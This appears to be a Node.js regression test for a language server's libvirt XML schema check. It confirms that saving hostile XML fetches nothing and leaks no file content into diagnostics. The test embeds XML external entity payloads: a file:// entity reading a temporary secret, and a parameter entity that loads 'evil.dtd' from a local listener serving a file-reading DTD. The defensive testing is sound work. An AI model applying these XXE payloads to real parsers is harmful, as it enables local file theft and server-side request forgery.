// Issue 13, point 1, through the language server: saving a hostile libvirt XML document in a
// trusted workspace runs the schema check; it must not fetch from a listener on 127.0.0.1 nor
// put a local file's content into a diagnostic.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer } from './helpers.mjs';

const haveXmllint = spawnSync('sh', ['-c', 'command -v xmllint'], { encoding: 'utf8' }).status === 0;
const haveSchemas = ['/usr/share/libvirt/schemas/domain.rng', '/usr/local/share/libvirt/schemas/domain.rng'].some((f) => existsSync(f));
const skip = haveXmllint && haveSchemas ? false : 'xmllint or libvirt\'s schemas not installed (libvirt-clients, libxml2-utils): nothing would run on save';

test('save of a hostile XML document: no connection, no file content, a "not run" note', { skip, timeout: 60_000 }, async () => {
  const MARKER = 'bdmlablspmarker0815';
  const dir = mkdtempSync(join(tmpdir(), 'bdm-lab-lsp-xxe-'));
  const secret = join(dir, 'secret.txt');
  writeFileSync(secret, `<${MARKER}/>`);
  let connections = 0;
  const http = createServer((_req, res) => res.end(`<!ENTITY % f SYSTEM "file://${secret}">`));
  http.on('connection', () => { connections++; });
  await new Promise((resolve) => http.listen(0, '127.0.0.1', resolve));
  const port = http.address().port;
  const s = await startServer({ settings: { libvirtSchemaCheck: true } });
  try {
    const docs = {
      'file:///tmp/lsp-xxe-file.xml': `<!DOCTYPE domain [<!ENTITY x SYSTEM "file://${secret}">]>\n<domain type="kvm"><name>x</name><memory>131072</memory><os><type>hvm</type>&x;</os><devices><disk type="file" device="disk"><source file="/var/lib/a.img"/><target dev="vda" bus="virtio"/></disk></devices></domain>\n`,
      'file:///tmp/lsp-xxe-param.xml': `<!DOCTYPE domain [<!ENTITY % d SYSTEM "http://127.0.0.1:${port}/evil.dtd"> %d;]>\n<domain type="kvm"><name>x</name><memory>131072</memory><os><type>hvm</type></os><devices><disk type="file" device="disk"><source file="/var/lib/a.img"/><target dev="vda" bus="virtio"/></disk></devices></domain>\n`,
    };
    for (const [uri, text] of Object.entries(docs)) {
      await s.open(uri, text, 'xml');
      await s.waitDiagnostics(uri);
      await s.conn.sendNotification('textDocument/didSave', { textDocument: { uri } });
      const p = await s.waitDiagnostics(uri, (d) => d.diagnostics.some((x) => x.code === 'LIBVIRT-SCHEMA'), 30_000);
      const all = p.diagnostics.map((d) => d.message).join('\n');
      assert.ok(!all.includes(MARKER), `the secret reached a diagnostic: ${all}`);
      assert.match(all, /schema check not run/, all);
    }
    assert.equal(connections, 0, 'the listener saw a connection');
  } finally {
    await s.stop();
    http.closeAllConnections();
    await new Promise((resolve) => http.close(resolve));
    rmSync(dir, { recursive: true, force: true });
  }
});
